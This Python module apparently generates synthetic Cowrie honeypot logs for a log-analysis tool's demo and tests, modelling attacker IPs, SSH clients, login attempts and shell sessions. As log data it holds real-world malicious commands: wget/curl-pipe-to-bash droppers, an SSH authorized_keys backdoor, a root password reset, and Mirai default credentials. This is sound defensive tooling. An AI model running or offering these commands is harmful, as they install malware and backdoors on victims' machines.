"""Deterministic, realistic Cowrie JSON logs: the sample `ipintel demo` ingests.

`generate()` writes what a small fleet of honeypots leaves in its log folders after a few days:
per sensor `cowrie.json.YYYY-MM-DD` (older days gzipped) and today's `cowrie.json`, and returns
what the demo prints. The same seed gives byte-identical files (gzip headers carry no name and
mtime 0; nothing depends on hash order or the clock). Its `on_session` hook hands each session
to the caller as it is placed in time: the tests compute from it what a database built from the
files must hold (tests/cowrie_oracle.py), and the large volume file of the tests and benchmarks
is made from its output (tests/cowrie_large.py).

What makes it realistic: attackers come from public ranges that really fill honeypot logs
(Chinese ISPs, cloud and bulletproof hosting, research scanners), with a Zipf-like share of
sessions, ~5% IPv6, a few IPv4 attackers sometimes logged as IPv4-mapped IPv6 (`::ffff:a.b.c.d`)
and a few bogons. Each attacker keeps a persona (scanner, brute-forcer, Mirai-like bot, intruder)
and an SSH client. Lines are written the way Cowrie's JSON output writes them (compact JSON,
non-ASCII escaped, Cowrie's key order and messages), including events the reader does not
interpret (client.size, session.params, log.closed, file_download.failed, direct-tcpip.*), and
some sessions span midnight, so their events are split over two daily files.

Quirk reproduced on purpose: `cowrie.direct-tcpip.request` carries the forwarding origin the
client claims (here 127.0.0.1) in `src_ip`, not the attacker's address: a session's source IP
must come from its `cowrie.session.connect` event.
"""

from __future__ import annotations

import gzip
import hashlib
import ipaddress
import json
import random
from collections.abc import Callable, Container
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

__all__ = ["GeneratedSet", "OnSession", "Session", "SessionEvent", "generate"]

_EPOCH = datetime(1970, 1, 1)  # naive: timestamps are rendered like Cowrie, utcnow().isoformat()+"Z"
_SECOND = 1_000_000  # times are integer microseconds, so the files and what on_session sees agree exactly
_DAY = 86_400 * _SECOND

# ------------------------------------------------------------------------------------------------
# The world: where attackers come from, what they run
# ------------------------------------------------------------------------------------------------

SCANNER, BRUTEFORCER, BOT, INTRUDER = "scanner", "bruteforcer", "bot", "intruder"

# (network, is a research scanner's range)
_V4_RANGES: tuple[tuple[str, bool], ...] = (
    ("218.92.0.0/16", False),  # CHINANET Jiangsu, the classic SSH brute-force source
    ("61.177.172.0/22", False),  # CHINANET Jiangsu
    ("222.186.0.0/16", False),  # CHINANET
    ("36.134.0.0/16", False),  # China Mobile
    ("14.103.0.0/16", False),  # China
    ("118.25.0.0/16", False),  # Tencent Cloud
    ("43.153.0.0/16", False),  # Tencent Cloud
    ("159.89.0.0/16", False),  # DigitalOcean
    ("167.99.0.0/16", False),  # DigitalOcean
    ("134.209.0.0/16", False),  # DigitalOcean
    ("170.64.128.0/17", False),  # DigitalOcean Sydney
    ("45.148.10.0/24", False),  # hosting, frequent in blocklists
    ("141.98.10.0/23", False),  # hosting, frequent in blocklists
    ("80.94.95.0/24", False),  # hosting
    ("193.32.162.0/24", False),  # hosting
    ("92.118.39.0/24", False),  # hosting
    ("2.57.122.0/24", False),  # hosting
    ("176.111.174.0/24", False),  # hosting
    ("177.12.0.0/16", False),  # Brazilian ISP
    ("181.115.0.0/16", False),  # Latin American ISP
    ("117.50.0.0/16", False),  # UCloud
    ("162.142.125.0/24", True),  # Censys
    ("167.94.138.0/24", True),  # Censys
    ("198.235.24.0/24", True),  # Palo Alto Networks Cortex Xpanse
    ("71.6.199.0/24", True),  # Shodan
    ("89.248.165.0/24", True),  # research scanning
)
_V6_RANGES: tuple[tuple[str, bool], ...] = (
    ("2a01:4f8::/32", False),  # Hetzner
    ("2604:a880::/32", False),  # DigitalOcean
    ("2001:41d0::/32", False),  # OVH
    ("240e::/20", False),  # China Telecom
    ("2602:80d:1000::/44", True),  # Censys
)
_BOGON_RANGES = ("10.0.0.0/8", "192.168.0.0/16", "100.64.0.0/10")

_SENSOR_NAMES = ("hp-fra1", "hp-nyc3", "hp-sgp1", "hp-lon1", "hp-tor1", "hp-blr1", "hp-syd1")


@dataclass(frozen=True)
class _SshClient:
    version: str
    kex: tuple[str, ...]
    keys: tuple[str, ...]
    ciphers: tuple[str, ...]
    macs: tuple[str, ...]

    @property
    def hassh_algorithms(self) -> str:
        return ";".join((",".join(self.kex), ",".join(self.ciphers), ",".join(self.macs), "none"))

    @property
    def hassh(self) -> str:
        return hashlib.md5(self.hassh_algorithms.encode()).hexdigest()


_OLD_KEX = ("diffie-hellman-group14-sha1", "diffie-hellman-group-exchange-sha1", "diffie-hellman-group1-sha1")
_NEW_KEX = ("curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384")
_CTR = ("aes128-ctr", "aes192-ctr", "aes256-ctr")
_GCM = ("aes128-gcm@openssh.com", "aes256-gcm@openssh.com", "chacha20-poly1305@openssh.com")
_CLIENTS = {
    "libssh2": _SshClient(
        "SSH-2.0-libssh2_1.9.0",
        ("ecdh-sha2-nistp256", "diffie-hellman-group-exchange-sha256", *_OLD_KEX),
        ("ecdsa-sha2-nistp256", "ssh-rsa", "ssh-dss"),
        (*_CTR, "aes256-cbc", "aes128-cbc", "blowfish-cbc", "3des-cbc"),
        ("hmac-sha2-256", "hmac-sha1", "hmac-md5"),
    ),
    "go": _SshClient(
        "SSH-2.0-Go",
        (*_NEW_KEX, "diffie-hellman-group14-sha256", "diffie-hellman-group14-sha1"),
        ("rsa-sha2-256", "rsa-sha2-512", "ssh-rsa", "ssh-ed25519"),
        (*_GCM, *_CTR),
        ("hmac-sha2-256-etm@openssh.com", "hmac-sha2-256", "hmac-sha1"),
    ),
    "paramiko": _SshClient(
        "SSH-2.0-paramiko_2.11.0",
        ("ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "diffie-hellman-group16-sha512", *_OLD_KEX),
        ("ssh-ed25519", "ecdsa-sha2-nistp256", "rsa-sha2-512", "ssh-rsa"),
        (*_CTR, "aes256-cbc", "3des-cbc"),
        ("hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"),
    ),
    "libssh": _SshClient(
        "SSH-2.0-libssh_0.9.6",
        (*_NEW_KEX, "diffie-hellman-group18-sha512", "diffie-hellman-group14-sha1"),
        ("ssh-ed25519", "rsa-sha2-512", "rsa-sha2-256", "ssh-rsa"),
        (*_GCM, *_CTR),
        ("hmac-sha2-256-etm@openssh.com", "hmac-sha2-512", "hmac-sha1"),
    ),
    "openssh": _SshClient(
        "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6",
        (*_NEW_KEX, "sntrup761x25519-sha512@openssh.com", "diffie-hellman-group16-sha512"),
        ("ssh-ed25519-cert-v01@openssh.com", "ssh-ed25519", "rsa-sha2-512", "rsa-sha2-256"),
        ("chacha20-poly1305@openssh.com", *_CTR, "aes128-gcm@openssh.com"),
        ("umac-64-etm@openssh.com", "hmac-sha2-256-etm@openssh.com", "hmac-sha2-512"),
    ),
    "putty": _SshClient(
        "SSH-2.0-PuTTY_Release_0.78",
        ("curve25519-sha256", "ecdh-sha2-nistp256", "diffie-hellman-group-exchange-sha256"),
        ("ssh-ed25519", "ecdsa-sha2-nistp256", "rsa-sha2-512", "ssh-rsa"),
        ("aes256-ctr", "aes256-cbc", "chacha20-poly1305@openssh.com", "3des-ctr"),
        ("hmac-sha2-256", "hmac-sha1", "hmac-md5"),
    ),
    "zgrab": _SshClient(
        "SSH-2.0-ZGrab ZGrab SSH Survey",
        ("curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "diffie-hellman-group14-sha1"),
        ("ssh-rsa", "ecdsa-sha2-nistp256", "ssh-ed25519"),
        ("aes128-gcm@openssh.com", *_CTR),
        ("hmac-sha2-256", "hmac-sha1"),
    ),
}
_PERSONA_CLIENTS = {
    SCANNER: ("zgrab", "go"),
    BRUTEFORCER: ("libssh2", "go", "paramiko", "libssh"),
    BOT: ("libssh2", "go"),
    INTRUDER: ("openssh", "putty", "paramiko", "go"),
}
_PERSONA_SSH_SHARE = {SCANNER: 0.7, BRUTEFORCER: 0.9, BOT: 0.3, INTRUDER: 1.0}

_USERNAMES = (
    "root", "root", "root", "root", "admin", "ubuntu", "user", "test", "oracle", "postgres",
    "pi", "git", "ftpuser", "support", "guest", "debian", "hadoop", "deploy", "админ",
)
_PASSWORDS = (
    "123456", "password", "admin", "root", "12345678", "1234", "qwerty", "P@ssw0rd", "raspberry",
    "ubuntu", "test123", "1qaz@WSX", "admin123", "", "Passw0rd!", "changeme", "toor", "пароль",
    "🔑secret", 'pa"ss\\word', "Zz123456.", "<script>",
)
_MIRAI_CREDENTIALS = (
    ("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"),
    ("root", "xmhdipc"), ("root", "default"), ("root", "juantech"), ("root", "123456"),
    ("support", "support"), ("root", ""), ("admin", "password"), ("root", "root"),
    ("user", "user"), ("admin", ""), ("root", "Zte521"), ("root", "hi3518"), ("ubnt", "ubnt"),
    ("root", "7ujMko0admin"), ("guest", "12345"), ("Administrator", "admin"),
)
# (command, whether Cowrie answers "command not found", i.e. logs cowrie.command.failed after it)
_RECON: tuple[tuple[str, bool], ...] = (
    ("uname -a", False),
    ("cat /proc/cpuinfo | grep name | wc -l", False),
    ("cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'", False),
    ("free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", False),
    ("ls -lh $(which ls)", False),
    ("crontab -l", False),
    ("w", False),
    ("uname -m", False),
    ("whoami", False),
    ("lscpu | grep Model", False),
    ("df -h | head -n 2 | awk 'FNR == 2 {print $2;}'", False),
    ("cat /etc/issue", False),
    ("nvidia-smi --list-gpus", True),
    ("cd ~; chattr -ia .ssh; lockr -ia .ssh", True),
)
_PERSIST: tuple[tuple[str, bool], ...] = (
    (
        'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4'
        "KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOm"
        'Nx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdyS'
        'YMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9'
        'iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys '
        "&& chmod -R go= ~/.ssh && cd ~",
        False,
    ),
    ('echo "root:Kq8vT2mxUe1a"|chpasswd|bash', False),
)
_MIRAI_PROBES: tuple[tuple[str, bool], ...] = (
    ("enable", True),
    ("system", True),
    ("shell", True),
    ("sh", False),
    ("/bin/busybox ECCHI", True),
)
# (command that fetches malware, the file it fetches)
_DROPPERS = (
    (
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://{host}/bins.sh; chmod 777 "
        "bins.sh; sh bins.sh; tftp {host} -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf *",
        "bins.sh",
    ),
    ("cd /tmp; wget -q http://{host}/x86_64 -O .x; chmod +x .x; ./.x", "x86_64"),
    ("curl -s -L http://{host}/c.sh | bash", "c.sh"),
)
_TUNNEL_TARGETS = (("ya.ru", 443), ("www.google.com", 443), ("142.250.74.46", 80), ("smtp.mail.ru", 25))


@dataclass(frozen=True)
class _Attacker:
    ip: str  # normalised, as the reader yields it
    persona: str
    client: str
    dual_stack: bool  # sometimes logged as ::ffff:a.b.c.d


@dataclass(frozen=True)
class _Sensor:
    name: str
    address: str
    ssh_port: int
    telnet_port: int


class _World:
    """Attackers (with Zipf-like weights), sensors and malware hosts, all drawn from one rng."""

    def __init__(self, rng: random.Random, n_ips: int, n_sensors: int) -> None:
        self.attackers = self._attackers(rng, n_ips)
        # Repeat offenders: the k-th attacker gets weight 1/k^1.1. Bogons were put last.
        self.cum_weights: list[float] = []
        total = 0.0
        for rank in range(1, len(self.attackers) + 1):
            total += rank**-1.1
            self.cum_weights.append(total)
        self.sensors = [
            _Sensor(
                _SENSOR_NAMES[i] if i < len(_SENSOR_NAMES) else f"hp-{i:02d}",
                f"172.31.{rng.randrange(0, 256)}.{rng.randrange(2, 255)}",
                22 if i == 0 else 2222,  # one sensor has Cowrie on the real port, others behind a redirect
                23 if i == 0 else 2223,
            )
            for i in range(n_sensors)
        ]
        hosting = [net for net, scanner in _V4_RANGES if not scanner]
        self.malware_hosts = [_random_host(rng, rng.choice(hosting)) for _ in range(6)]

    @staticmethod
    def _attackers(rng: random.Random, n_ips: int) -> list[_Attacker]:
        n_v6 = max(1, round(n_ips * 0.05))
        n_bogon = min(3, max(0, n_ips - n_v6 - 1))
        n_v4 = n_ips - n_v6 - n_bogon
        seen: set[str] = set()
        drawn: list[tuple[str, bool]] = []
        for count, ranges in ((n_v4, _V4_RANGES), (n_v6, _V6_RANGES)):
            while count:
                network, is_scanner = rng.choice(ranges)
                address = _random_host(rng, network)
                if address not in seen:
                    seen.add(address)
                    drawn.append((address, is_scanner))
                    count -= 1
        rng.shuffle(drawn)
        attackers = []
        for address, is_scanner in drawn:
            persona = SCANNER if is_scanner else rng.choices((BRUTEFORCER, BOT, INTRUDER), (55, 25, 20))[0]
            attackers.append(
                _Attacker(address, persona, rng.choice(_PERSONA_CLIENTS[persona]), dual_stack=False)
            )
        # A few IPv4 attackers appear now and then as IPv4-mapped IPv6 (dual-stack listeners).
        v4_indexes = [i for i, a in enumerate(attackers) if ":" not in a.ip]
        for i in rng.sample(v4_indexes, min(len(v4_indexes), max(1, n_ips // 100))):
            a = attackers[i]
            attackers[i] = _Attacker(a.ip, a.persona, a.client, dual_stack=True)
        for network in _BOGON_RANGES[:n_bogon]:
            attackers.append(_Attacker(_random_host(rng, network), BRUTEFORCER, "libssh2", False))
        return attackers

    def pick_attacker(self, rng: random.Random) -> _Attacker:
        return rng.choices(self.attackers, cum_weights=self.cum_weights)[0]


def _random_host(rng: random.Random, network: str) -> str:
    net = ipaddress.ip_network(network)
    # Skip the network and broadcast-like ends; for IPv6 the range is huge anyway.
    return str(net.network_address + rng.randrange(1, net.num_addresses - 1))


# ------------------------------------------------------------------------------------------------
# Sessions
# ------------------------------------------------------------------------------------------------


@dataclass
class SessionEvent:
    offset: int  # microseconds after the session's connect
    eventid: str
    fields: dict[str, Any]
    message: Any  # Cowrie writes a string, or [] for some events


@dataclass
class Session:
    """One generated session, as `generate(on_session=...)` hands it over: its events, with
    offsets from its start, in the order they are written."""

    sid: str
    sensor: _Sensor
    attacker: _Attacker  # attacker.ip: the normalised source address, as the reader yields it
    protocol: str
    src_ip_written: str  # as the log writes it (sometimes IPv4-mapped IPv6)
    events: list[SessionEvent]

    @property
    def span(self) -> int:
        return self.events[-1].offset


# emit(gap range in seconds, eventid, fields, message) appends an event after a random gap.
_Emit = Callable[[tuple[float, float], str, dict[str, Any], Any], SessionEvent]


def _build_session(rng: random.Random, world: _World, sid: str) -> Session:
    """One session's events with offsets from its start; the caller places it in time."""
    attacker = world.pick_attacker(rng)
    sensor = rng.choice(world.sensors)
    persona = attacker.persona
    protocol = "ssh" if rng.random() < _PERSONA_SSH_SHARE[persona] else "telnet"
    written_ip = f"::ffff:{attacker.ip}" if attacker.dual_stack and rng.random() < 0.5 else attacker.ip
    events: list[SessionEvent] = []
    clock = 0

    def emit(gap: tuple[float, float], eventid: str, fields: dict[str, Any], message: Any) -> SessionEvent:
        nonlocal clock
        clock += rng.randint(int(gap[0] * _SECOND), int(gap[1] * _SECOND))
        events.append(SessionEvent(clock, eventid, fields, message))
        return events[-1]

    dst_port = sensor.ssh_port if protocol == "ssh" else sensor.telnet_port
    src_port = rng.randint(32768, 60999)
    events.append(
        SessionEvent(
            0,
            "cowrie.session.connect",
            {
                "src_ip": written_ip,
                "src_port": src_port,
                "dst_ip": sensor.address,
                "dst_port": dst_port,
                "session": sid,
                "protocol": protocol,
            },
            f"New connection: {written_ip}:{src_port} ({sensor.address}:{dst_port}) [session: {sid}]",
        )
    )
    if protocol == "ssh":
        # Most attackers keep their tooling; now and then another client shows up.
        client = _CLIENTS[attacker.client if rng.random() < 0.9 else rng.choice(tuple(_CLIENTS))]
        emit((0.05, 0.6), "cowrie.client.version", {"version": client.version},
             f"Remote SSH version: {client.version}")
        if persona != SCANNER or rng.random() < 0.5:
            emit((0.01, 0.2), "cowrie.client.kex", _kex_fields(client),
                 f"SSH client hassh fingerprint: {client.hassh}")

    succeeded = persona != SCANNER and _login_phase(rng, emit, persona, protocol)
    if succeeded:
        _shell_phase(rng, world, emit, persona, protocol)
    if rng.random() >= 0.005:  # a sensor restart leaves a few sessions without their close
        closed = emit((0.1, 3.0), "cowrie.session.closed", {}, "")
        duration = round(closed.offset / _SECOND, 6)
        closed.fields["duration"] = duration
        closed.message = f"Connection lost after {int(duration)} seconds"
    return Session(sid, sensor, attacker, protocol, written_ip, events)


def _kex_fields(client: _SshClient) -> dict[str, Any]:
    return {
        "hassh": client.hassh,
        "hasshAlgorithms": client.hassh_algorithms,
        "kexAlgs": list(client.kex),
        "keyAlgs": list(client.keys),
        "encCS": list(client.ciphers),
        "macCS": list(client.macs),
        "compCS": ["none"],
        "langCS": [""],
    }


def _login_phase(rng: random.Random, emit: _Emit, persona: str, protocol: str) -> bool:
    """Failed attempts, maybe a success; returns whether the attacker got a shell."""
    if persona == BRUTEFORCER:
        failures, success_rate = min(12, 1 + int(rng.expovariate(0.35))), 0.12
    elif persona == BOT:
        failures, success_rate = rng.randint(0, 3), 0.7
    else:
        failures, success_rate = rng.randint(0, 2), 0.9
    gap = (0.3, 3.0) if protocol == "ssh" else (1.0, 5.0)
    if protocol == "ssh" and persona != BOT and rng.random() < 0.05:
        key_md5 = hashlib.md5(rng.randbytes(16)).hexdigest()
        fingerprint = ":".join(key_md5[i : i + 2] for i in range(0, 32, 2))
        emit(gap, "cowrie.client.fingerprint",
             {"username": "root", "fingerprint": fingerprint,
              "key": "AAAAB3NzaC1yc2EAAAADAQABAAABAQ" + key_md5, "type": "ssh-rsa"},
             f"public key attempt for user root of type ssh-rsa with fingerprint {fingerprint}")
    for _ in range(failures):
        username, password = _credentials(rng, persona)
        emit(gap, "cowrie.login.failed", {"username": username, "password": password},
             f"login attempt [{username}/{password}] failed")
    if rng.random() >= success_rate:
        return False
    username, password = _credentials(rng, persona)
    emit(gap, "cowrie.login.success", {"username": username, "password": password},
         f"login attempt [{username}/{password}] succeeded")
    return True


def _credentials(rng: random.Random, persona: str) -> tuple[str, str]:
    if persona == BOT:
        return rng.choice(_MIRAI_CREDENTIALS)
    if persona == INTRUDER:
        return "root", rng.choice(_PASSWORDS)
    return rng.choice(_USERNAMES), rng.choice(_PASSWORDS)


def _shell_phase(rng: random.Random, world: _World, emit: _Emit, persona: str, protocol: str) -> None:
    if protocol == "ssh":
        emit((0.05, 0.3), "cowrie.session.params", {"arch": rng.choice(("linux-x64-lsb", "linux-arm-lsb"))}, [])
        if rng.random() < 0.6:
            emit((0.01, 0.1), "cowrie.client.size", {"width": 80, "height": 24}, "Terminal Size: 80 24")
    # (command, whether it fails, URL it downloads)
    script: list[tuple[str, bool, str | None]]
    if persona == BOT:
        script = [(command, fails, None) for command, fails in _MIRAI_PROBES]
        script.append(_dropper(rng, world))
    elif persona == INTRUDER:
        script = [(command, fails, None) for command, fails in rng.sample(_RECON, rng.randint(3, 10))]
        if rng.random() < 0.5:
            script.append((*rng.choice(_PERSIST), None))
        if rng.random() < 0.5:
            script.append(_dropper(rng, world))
    else:
        script = [(command, fails, None) for command, fails in rng.sample(_RECON, rng.randint(1, 3))]
    for command, fails, url in script:
        emit((0.2, 2.5), "cowrie.command.input", {"input": command}, f"CMD: {command}")
        if fails:
            emit((0.0, 0.05), "cowrie.command.failed", {"input": command}, f"Command not found: {command}")
        if url:
            _download(rng, emit, url)
    if persona == INTRUDER and rng.random() < 0.05:
        target, port = rng.choice(_TUNNEL_TARGETS)
        emit((0.1, 1.0), "cowrie.direct-tcpip.request",
             {"dst_ip": target, "dst_port": port, "src_ip": "127.0.0.1", "src_port": 0},
             f"direct-tcp connection request to {target}:{port} from 127.0.0.1:0")
        emit((0.01, 0.2), "cowrie.direct-tcpip.data",
             {"dst_ip": target, "dst_port": port, "data": f"b'GET / HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n'"},
             f"direct-tcp forward to {target}:{port} with data b'GET / HTTP/1.1...'")
    tty = hashlib.sha256(rng.randbytes(16)).hexdigest()
    tty_seconds = rng.uniform(1.0, 60.0)
    emit((0.1, 1.0), "cowrie.log.closed",
         {"ttylog": f"var/lib/cowrie/tty/{tty}", "size": rng.randint(200, 40000), "shasum": tty,
          "duplicate": rng.random() < 0.3, "duration": round(tty_seconds, 6)},
         f"Closing TTY Log: var/lib/cowrie/tty/{tty} after {int(tty_seconds)} seconds")


def _dropper(rng: random.Random, world: _World) -> tuple[str, bool, str]:
    template, name = rng.choice(_DROPPERS)
    host = rng.choice(world.malware_hosts)
    return template.format(host=host), False, f"http://{host}/{name}"


def _download(rng: random.Random, emit: _Emit, url: str) -> None:
    if rng.random() < 0.75:
        sha = hashlib.sha256(url.encode()).hexdigest()  # same URL, same payload
        outfile = f"var/lib/cowrie/downloads/{sha}"
        emit((1.0, 6.0), "cowrie.session.file_download",
             {"url": url, "outfile": outfile, "shasum": sha},
             f"Downloaded URL ({url}) with SHA-256 {sha} to {outfile}")
    else:
        emit((2.0, 15.0), "cowrie.session.file_download.failed", {"url": url},
             f"Attempt to download file(s) from URL ({url}) failed")


def _timestamp(us: int) -> str:
    return (_EPOCH + timedelta(microseconds=us)).isoformat() + "Z"


def _render(session: Session, start_us: int) -> list[tuple[int, str]]:
    """(time, JSON line) per event, keys in the order Cowrie's JSON output writes them."""
    lines = []
    for event in session.events:
        us = start_us + event.offset
        record = {
            "eventid": event.eventid,
            **event.fields,
            "message": event.message,
            "sensor": session.sensor.name,
            "timestamp": _timestamp(us),
            "src_ip": event.fields.get("src_ip", session.src_ip_written),
            "session": session.sid,
        }
        lines.append((us, json.dumps(record, separators=(",", ":")) + "\n"))
    return lines


def _unique_sid(rng: random.Random, taken: Container[str]) -> str:
    # Cowrie's session ids are 12 hex digits (uuid4().hex[:12]).
    while True:
        sid = f"{rng.getrandbits(48):012x}"
        if sid not in taken:
            return sid


def _ip_count(sessions: int) -> int:
    return max(8, min(400, sessions // 8))


# ------------------------------------------------------------------------------------------------
# Daily files per sensor
# ------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class GeneratedSet:
    out_dir: Path
    files: list[Path]  # in the order expand_paths() returns them
    sessions: int
    events: int
    distinct_ips: int  # normalised source addresses


# on_session(session, start_us): the session just built, and when it starts, in microseconds
# since 1970-01-01 UTC (its events are at start_us + event.offset). Called once per session, in
# the order they are generated, before any file is written.
OnSession = Callable[[Session, int], None]


def generate(
    out_dir: Path,
    *,
    seed: int = 42,
    days: int = 5,
    sessions: int = 3000,
    sensors: int = 3,
    start: date = date(2026, 11, 1),
    on_session: OnSession | None = None,
) -> GeneratedSet:
    """Write `days` days of logs for `sensors` honeypots under out_dir/<sensor>/.

    Every sensor gets one file per day, even an empty one, so the file list is predictable:
    `cowrie.json.YYYY-MM-DD.gz` for the days before the last, and `cowrie.json` for the last
    day ("today"). One session in 40 is placed across a midnight. Existing files with those
    names are overwritten; others are left alone.
    """
    if days < 1 or sessions < 1 or sensors < 1:
        raise ValueError("days, sessions and sensors must be at least 1")
    rng = random.Random(seed)
    world = _World(rng, _ip_count(sessions), sensors)
    first_us = _day_start(start)
    window = days * _DAY
    sids: set[str] = set()
    addresses: set[str] = set()
    per_sensor: dict[str, list[tuple[int, int, str]]] = {s.name: [] for s in world.sensors}
    seq = 0  # tie-breaker keeping the sort stable and deterministic
    for index in range(sessions):
        session = _build_session(rng, world, _unique_sid(rng, sids))
        span = session.span
        if days > 1 and index % 40 == 7 and span > 1:
            # Straddle a midnight: some events land in one daily file, the rest in the next.
            midnight = first_us + rng.randint(1, days - 1) * _DAY
            start_us = midnight - rng.randint(1, span - 1)
        else:
            start_us = first_us + rng.randrange(0, window - span)
        sids.add(session.sid)
        addresses.add(session.attacker.ip)
        if on_session is not None:
            on_session(session, start_us)
        lines = per_sensor[session.sensor.name]
        for us, line in _render(session, start_us):
            lines.append((us, seq, line))
            seq += 1

    files: list[Path] = []
    for sensor_name in sorted(per_sensor):
        folder = out_dir / sensor_name
        folder.mkdir(parents=True, exist_ok=True)
        by_day: list[list[str]] = [[] for _ in range(days)]
        for us, _, line in sorted(per_sensor[sensor_name]):
            by_day[(us - first_us) // _DAY].append(line)
        for day_index, day_lines in enumerate(by_day):
            data = "".join(day_lines).encode("ascii")  # json.dumps escapes all non-ASCII, like Cowrie
            if day_index == days - 1:
                files.append(_write(folder / "cowrie.json", data, compress=False))
            else:
                name = f"cowrie.json.{start + timedelta(days=day_index):%Y-%m-%d}.gz"
                files.append(_write(folder / name, data, compress=True))

    return GeneratedSet(out_dir=out_dir, files=files, sessions=len(sids), events=seq, distinct_ips=len(addresses))


def _day_start(day: date) -> int:
    return (datetime(day.year, day.month, day.day) - _EPOCH) // timedelta(microseconds=1)


def _write(path: Path, data: bytes, *, compress: bool) -> Path:
    with open(path, "wb") as raw:
        if compress:
            # No file name and mtime 0 in the header: same input, same bytes.
            with gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0) as gz:
                gz.write(data)
        else:
            raw.write(data)
    return path
